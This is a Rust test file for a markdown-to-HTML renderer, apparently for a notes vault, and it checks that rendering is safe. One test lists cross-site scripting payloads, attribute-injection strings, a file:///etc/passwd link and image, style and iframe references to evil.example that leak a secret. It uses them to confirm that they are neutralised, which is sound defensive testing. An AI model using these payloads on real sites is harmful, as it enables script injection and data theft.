use super::*;

#[test]
fn message_is_split_into_blocks() {
    let found: Vec<String> = blocks("# Hi\n\nOne *two*.\n\n- a\n- b\n\n| x |\n|---|\n| 1 |\n")
        .into_iter()
        .map(|b| b.html)
        .collect();
    assert_eq!(found.len(), 4, "{found:?}");
    assert_eq!(found[0].trim(), "<h1>Hi</h1>");
    assert_eq!(found[1].trim(), "<p>One <em>two</em>.</p>");
    assert!(found[2].contains("<li>a</li>"), "{}", found[2]);
    assert!(found[3].contains("<td>1</td>"), "{}", found[3]);
}

#[test]
fn note_links_keep_target_and_text() {
    assert_eq!(
        html("See [[Jane Doe]].").trim(),
        "<p>See <a data-note=\"Jane Doe\" rel=\"noopener noreferrer\">Jane Doe</a>.</p>"
    );
    assert_eq!(
        html("[[CRM/People/Jane Doe#Log|J]]").trim(),
        "<p><a data-note=\"CRM/People/Jane Doe#Log\" rel=\"noopener noreferrer\">J</a></p>"
    );
}

#[test]
fn nothing_is_executed_or_fetched() {
    let hostile = [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "![x](https://evil.example/?leak=secret)",
        "[x](javascript:alert(1))",
        "[x](data:text/html,<script>alert(1)</script>)",
        "[x](file:///etc/passwd)",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<svg onload=alert(1)>",
        "<style>body{background:url(https://evil.example)}</style>",
        "<iframe src=https://evil.example></iframe>",
        "[[x\" onclick=\"alert(1)]]",
        "<https://evil.example/\" onmouseover=\"alert(1)>",
        "```x\" onclick=\"alert(1)\ncode\n```",
    ];
    for markdown in hostile {
        let html = html(markdown).to_lowercase();
        // Text may contain these names (with an escaped `<`), but tags and attributes may not.
        for tag in html.split('<').skip(1).filter_map(|part| part.split('>').next()) {
            let name = tag.trim_start_matches('/').split_whitespace().next().unwrap_or_default();
            let harmless = ["p", "a", "em", "strong", "code", "pre"].contains(&name);
            assert!(harmless, "{markdown} became {html}");
            for address in ["javascript:", "data:", "file:"] {
                assert!(!tag.contains(address), "{markdown} became {html}");
            }
            let unquoted: String = tag.split('"').step_by(2).collect();
            for attribute in ["onerror", "onclick", "onload", "onmouseover", "src", "style"] {
                assert!(!unquoted.contains(&format!(" {attribute}")), "{markdown} became {html}");
            }
        }
    }
}

#[test]
fn code_keeps_its_language() {
    assert!(html("```rust\nfn x() {}\n```").contains("<code class=\"language-rust\">"));
}

#[test]
fn footnote_links_to_its_text_in_another_block() {
    let found: Vec<String> =
        blocks("Due in May.[^terms]\n\nAnd June.[^b]\n\n[^terms]: Thirty days.\n\n[^b]: Later.\n")
            .into_iter()
            .map(|block| block.html)
            .collect();
    assert!(found[0].contains(">1</a></sup>") && found[0].contains("data-footnote-ref=\"1\""), "{found:?}");
    assert!(found[1].contains("data-footnote-ref=\"2\""), "{found:?}");
    assert!(found[2].starts_with("<div data-footnote=\"1\"><sup>1</sup>"), "{found:?}");
    assert!(found[2].contains("Thirty days."), "{found:?}");
}

#[test]
fn link_reference_resolves_across_blocks() {
    let found = blocks("See [the terms][t].\n\nMore.\n\n[t]: https://example.org/terms\n");
    assert!(found[0].html.contains("href=\"https://example.org/terms\""), "{found:?}");
}

#[test]
fn mail_address_is_text_without_a_link() {
    for (markdown, shown) in [
        ("[Write](mailto:jane@example.org?body=x)", "Write (mailto:jane@example.org?body=x)"),
        ("[*Write*](MailTo:jane@example.org) soon", "<em>Write</em> (MailTo:jane@example.org) soon"),
        ("<jane@example.org>", "jane@example.org"),
        ("<mailto:jane@example.org>", "mailto:jane@example.org"),
    ] {
        assert_eq!(html(markdown).trim(), format!("<p>{shown}</p>"));
    }
    // Adjacent links are preserved.
    let around = html("[a](https://a.example) [b](mailto:b@c.example) [c](https://c.example)");
    assert_eq!(around.matches("<a href=").count(), 2, "{around}");
}

#[test]
fn formulas_are_marked_for_typesetting() {
    assert_eq!(
        html("It is $a^2 < b$.").trim(),
        "<p>It is <span class=\"math math-inline\">a^2 &lt; b</span>.</p>"
    );
    assert_eq!(
        html("$$\n\\sum_i x_i\n$$").trim(),
        "<p><span class=\"math math-display\">\n\\sum_i x_i\n</span></p>"
    );
    assert!(html("$<img src=x onerror=alert(1)>$").contains("&lt;img"));
}

#[test]
fn amounts_of_money_are_not_formulas() {
    for text in ["From $1,200 to ~$1,500.", "It was $5, now it is 6$ in all.", "$5 and $6"] {
        assert_eq!(html(text).trim(), format!("<p>{text}</p>"));
    }
}

#[test]
fn remote_image_is_a_link_and_not_loaded() {
    assert_eq!(
        html("![A chart](https://example.org/c.png?leak=secret)").trim(),
        "<p><a href=\"https://example.org/c.png?leak=secret\" data-image=\"\" rel=\"noopener noreferrer\">A chart</a></p>"
    );
    // An image in a link contributes its description to it; one in the vault is only its description.
    assert!(!html("[![logo](https://example.org/l.png)](https://example.org)").contains("data-image"));
    assert_eq!(html("![Floor plan](plans/floor.png)").trim(), "<p>Floor plan</p>");
    assert_eq!(html("![](https://example.org/c.png)").matches("example.org/c.png").count(), 2);
    assert_eq!(html("![[floor.PNG]]").trim(), "<p>floor.PNG</p>");
    assert!(html("![[Jane Doe]]").contains("data-note=\"Jane Doe\""));
    assert_eq!(html("![x](javascript:alert(1))").trim(), "<p>x</p>");
}

#[test]
fn only_column_alignment_is_kept_as_style() {
    let table = html("| a | b |\n|--|--:|\n| x | 1 |\n");
    assert_eq!(table.matches("style=\"text-align: right\"").count(), 2, "{table}");
    assert_eq!(table.matches("style").count(), 2, "{table}");
}

/// Wherever a growing text is cut, its blocks end up as those of the whole text.
#[test]
fn growing_text_ends_as_the_whole() {
    let text = "# Hi[^1]\n\n- a\n- b\n\n[x]: https://example.org\n\n| a |\n|---|\n| 1 |\n\n```rust\nfn x() {}\n```\n\n$$x$$ [x]\n\n[^1]: Ünder.\n";
    for size in [1, 3, 7, 50] {
        let mut growing = Growing::default();
        let letters: Vec<char> = text.chars().collect();
        for piece in letters.chunks(size) {
            growing.push(&piece.iter().collect::<String>());
        }
        assert_eq!(growing.blocks, blocks(text), "{size}");
    }
}
